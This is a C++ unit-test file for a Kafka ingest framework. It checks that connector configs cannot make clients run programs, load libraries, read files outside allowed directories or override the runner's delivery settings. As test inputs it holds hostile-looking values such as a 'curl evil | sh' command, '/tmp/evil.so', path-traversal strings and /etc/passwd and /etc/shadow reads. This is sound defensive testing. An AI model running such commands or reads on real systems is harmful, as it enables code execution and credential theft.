// Connector configs (files or REST) cannot make the Kafka clients run programs, load code or read
// files outside what the worker config allows, nor take over what the runner's guarantees need.
#include "config/client_overrides.hpp"
#include "config/connector_config.hpp"

#include <ingest/sdk.hpp>

#include <gtest/gtest.h>

#include <unistd.h>

#include <fstream>

namespace {

using namespace ingest::config;
namespace fs = std::filesystem;

// The problem of one override, or kAccepted when it passed every check of the policy.
std::string problem_of(const std::string& key, const std::string& value, const ClientOverridePolicy& policy = {},
                       ingest_plugin_kind kind = INGEST_KIND_SINK) {
    ClientOverrides out;
    std::vector<std::string> secrets;
    return apply_client_override(key, value, kind, policy, out, secrets).value_or("");
}

const std::string kAccepted;

TEST(ClientOverrides, SettingsThatRunCodeNeedTheWorkersPermission) {
    for (const char* property :
         {"sasl.kerberos.kinit.cmd", "plugin.library.paths", "ssl.engine.location", "ssl.engine.id", "ssl.providers"}) {
        for (const char* prefix : {"producer.override.", "consumer.override.", "admin.override."}) {
            const auto problem = problem_of(std::string(prefix) + property, "/bin/sh -c 'curl evil | sh'");
            EXPECT_EQ(problem, "'" + std::string(property) +
                                   "' makes the Kafka client run a program or load code; a connector may set it only "
                                   "when the worker config allows it (ingest run --allow-client-setting " +
                                   property + ")")
                << prefix << property;
        }
    }
    ClientOverridePolicy allowing;
    allowing.allowed_settings = {"sasl.kerberos.kinit.cmd"};
    EXPECT_EQ(problem_of("consumer.override.sasl.kerberos.kinit.cmd", "kinit -t /etc/krb5.keytab", allowing), kAccepted);
    EXPECT_NE(problem_of("consumer.override.plugin.library.paths", "/tmp/x.so", allowing), kAccepted);
}

TEST(ClientOverrides, FilesMustLieUnderAnAllowedDirectory) {
    const fs::path dir = fs::temp_directory_path() / ("ingest-tls-" + std::to_string(::getpid()));
    fs::create_directories(dir / "certs");
    std::ofstream(dir / "certs" / "ca.pem") << "-----BEGIN CERTIFICATE-----\n";
    fs::create_symlink("/etc/passwd", dir / "certs" / "sneaky.pem");

    auto problem = problem_of("consumer.override.ssl.ca.location", "/etc/passwd");
    EXPECT_EQ(problem, "'ssl.ca.location' reads the file '/etc/passwd'; connectors may name files only under the worker "
                       "config's client-file-dir directories, and this worker allows none (ingest run --client-file-dir DIR)");

    ClientOverridePolicy policy;
    policy.file_dirs = {dir / "certs"};
    EXPECT_EQ(problem_of("consumer.override.ssl.ca.location", (dir / "certs" / "ca.pem").string(), policy), kAccepted);
    EXPECT_EQ(problem_of("producer.override.ssl.key.location", (dir / "certs" / "not-yet-there.pem").string(), policy),
              kAccepted);
    for (const auto& escape : {(dir / "certs" / ".." / ".." / "etc" / "passwd").string(), std::string("/etc/shadow"),
                               (dir / "certs" / "sneaky.pem").string(), (dir / "certs-evil" / "x.pem").string()}) {
        problem = problem_of("admin.override.sasl.kerberos.keytab", escape, policy);
        EXPECT_NE(problem.find("reads the file '" + escape + "'"), std::string::npos) << escape << ": " << problem;
        EXPECT_NE(problem.find((dir / "certs").string()), std::string::npos) << problem;
    }
    EXPECT_NE(problem_of("consumer.override.ssl.certificate.location", "certs/ca.pem", policy).find("absolute path"),
              std::string::npos);
    EXPECT_EQ(problem_of("consumer.override.ssl.ca.location", "probe"), kAccepted);  // the system's CA stores
    fs::remove_all(dir);
}

TEST(ClientOverrides, TheRunnersOwnSettingsCannotBeOverridden) {
    for (const char* property : {"enable.idempotence", "acks", "group.id", "auto.offset.reset", "enable.auto.commit",
                                 "bootstrap.servers", "transactional.id"})
        EXPECT_NE(problem_of(std::string("producer.override.") + property, "x").find("is set by the runner"),
                  std::string::npos)
            << property;
}

TEST(ClientOverrides, OtherChecks) {
    EXPECT_EQ(problem_of("consumer.override.fetch.max.bytes", "1048576", {}, INGEST_KIND_SOURCE),
              "a source has no consumer: consumer.override.* applies to sinks only");
    EXPECT_EQ(problem_of("producer.override.", "x"), "names no client property after 'producer.override.'");
    EXPECT_NE(problem_of("consumer.override.sasl.oauthbearer.token.endpoint.url", "file:///etc/passwd").find("http"),
              std::string::npos);
    EXPECT_NE(problem_of("consumer.override.client.id", std::string(70'000, 'x')).find("at most 65536 bytes"),
              std::string::npos);
    EXPECT_EQ(problem_of("consumer.override.fetch.max.bytes", "1048576"), kAccepted);
}

TEST(ClientOverrides, AConnectorConfigReportsThemWithItsOtherProblems) {
    static constexpr ingest_config_key kKeys[] = {ingest::sdk::string_key("table", "events", "Table.")};
    ingest_plugin sink{};
    sink.abi_version = INGEST_ABI_MAJOR;
    sink.struct_size = sizeof sink;
    sink.name = "sink_test";
    sink.kind = INGEST_KIND_SINK;
    sink.config_keys = kKeys;
    sink.config_key_count = 1;
    ConnectorSpec spec{"rest: connector 'x'", "x",
                       {{"plugin", "sink_test"}, {"topics", "t"}, {"tabel", "y"},
                        {"consumer.override.sasl.kerberos.kinit.cmd", "touch /tmp/pwned"},
                        {"producer.override.plugin.library.paths", "/tmp/evil.so"}}};
    try {
        validate_connector(spec, sink);
        FAIL() << "accepted";
    } catch (const ConfigError& error) {
        std::map<std::string, std::string> by_key;
        for (const auto& problem : error.problems()) by_key[problem.key] = problem.message;
        EXPECT_EQ(by_key.size(), 3u);
        EXPECT_NE(by_key["consumer.override.sasl.kerberos.kinit.cmd"].find("run a program or load code"), std::string::npos);
        EXPECT_NE(by_key["producer.override.plugin.library.paths"].find("run a program or load code"), std::string::npos);
        EXPECT_NE(by_key["tabel"].find("unknown key"), std::string::npos);
    }
}

TEST(ClientOverrides, AcceptedOverridesAreFiledByClientAndSecretsKept) {
    ClientOverrides out;
    std::vector<std::string> secrets;
    ClientOverridePolicy policy;
    policy.file_dirs = {"/etc/ingest/tls"};
    for (const auto& [key, value] : std::map<std::string, std::string>{
             {"producer.override.linger.ms", "50"},
             {"consumer.override.ssl.certificate.location", "/etc/ingest/tls/sink.pem"},
             {"consumer.override.ssl.key.password", "hunter2-key"},
             {"admin.override.sasl.password", "hunter2-sasl"},
             {"admin.override.security.protocol", "ssl"}})
        EXPECT_EQ(apply_client_override(key, value, INGEST_KIND_SINK, policy, out, secrets), std::nullopt) << key;
    EXPECT_EQ(out.producer, (std::map<std::string, std::string>{{"linger.ms", "50"}}));
    EXPECT_EQ(out.consumer, (std::map<std::string, std::string>{{"ssl.certificate.location", "/etc/ingest/tls/sink.pem"},
                                                                {"ssl.key.password", "hunter2-key"}}));
    EXPECT_EQ(out.admin, (std::map<std::string, std::string>{{"sasl.password", "hunter2-sasl"}, {"security.protocol", "ssl"}}));
    EXPECT_EQ(secrets, (std::vector<std::string>{"hunter2-sasl", "hunter2-key"}));  // in key order

    EXPECT_TRUE(is_secret_client_override("consumer.override.ssl.key.password"));
    EXPECT_TRUE(is_secret_client_override("producer.override.sasl.oauthbearer.client.secret"));
    EXPECT_TRUE(is_secret_client_override("admin.override.ssl.key.pem"));
    EXPECT_FALSE(is_secret_client_override("consumer.override.ssl.key.location"));
    EXPECT_FALSE(is_secret_client_override("ssl.key.password"));  // not an override: the plugin's key
}

// `ingest run --kafka-property KEY=VALUE`: the worker's own client properties.
std::vector<Problem> worker_problems(const std::vector<std::string>& assignments,
                                     std::map<std::string, std::string>* properties = nullptr) {
    std::map<std::string, std::string> out;
    auto problems = parse_worker_client_properties(assignments, out);
    if (properties) *properties = out;
    return problems;
}

TEST(WorkerClientProperties, TrustedFilesAndProgramsButNotTheRunnersGuarantees) {
    std::map<std::string, std::string> properties;
    EXPECT_TRUE(worker_problems({"security.protocol=ssl", "ssl.ca.location=/etc/ssl/ca.pem",
                                 "sasl.kerberos.kinit.cmd=kinit -k -t /etc/krb5.keytab", "sasl.password=a=b=c"},
                                &properties)
                    .empty());
    EXPECT_EQ(properties, (std::map<std::string, std::string>{{"security.protocol", "ssl"},
                                                              {"ssl.ca.location", "/etc/ssl/ca.pem"},
                                                              {"sasl.kerberos.kinit.cmd", "kinit -k -t /etc/krb5.keytab"},
                                                              {"sasl.password", "a=b=c"}}));

    for (const char* property : {"enable.idempotence", "acks", "group.id", "auto.offset.reset", "enable.auto.commit",
                                 "enable.auto.offset.store", "transactional.id", "partition.assignment.strategy"}) {
        const auto problems = worker_problems({std::string(property) + "=x"});
        ASSERT_EQ(problems.size(), 1u) << property;
        EXPECT_EQ(problems[0].key, "kafka-property '" + std::string(property) + "'");
        EXPECT_EQ(problems[0].message, "'" + std::string(property) +
                                           "' is set by the runner (its delivery guarantees depend on it) and cannot "
                                           "be set by the worker config");
    }
    const auto bootstrap = worker_problems({"bootstrap.servers=10.0.0.1:9092"});
    ASSERT_EQ(bootstrap.size(), 1u);
    EXPECT_NE(bootstrap[0].message.find("give the cluster with --bootstrap"), std::string::npos);
}

TEST(WorkerClientProperties, EveryMalformedAssignmentIsReportedWithoutItsValue) {
    const auto problems = worker_problems({"ssl.key.password", "=hunter2", "security.protocol=ssl",
                                           "security.protocol=plaintext", "client.id=" + std::string(70'000, 'x'),
                                           "group.id=mine"});
    ASSERT_EQ(problems.size(), 5u);
    EXPECT_EQ(problems[0].key, "kafka-property");
    EXPECT_EQ(problems[0].message, "expected KEY=VALUE (a librdkafka property), got no '='");
    EXPECT_EQ(problems[1].message, "expected KEY=VALUE (a librdkafka property), got no KEY");
    EXPECT_EQ(problems[2].key, "kafka-property 'security.protocol'");
    EXPECT_EQ(problems[2].message, "is given twice; give each property once");
    EXPECT_NE(problems[3].message.find("at most 65536 bytes"), std::string::npos);
    EXPECT_EQ(problems[4].key, "kafka-property 'group.id'");
    for (const auto& problem : problems) EXPECT_EQ(problem.message.find("hunter2"), std::string::npos);
}

}  // namespace
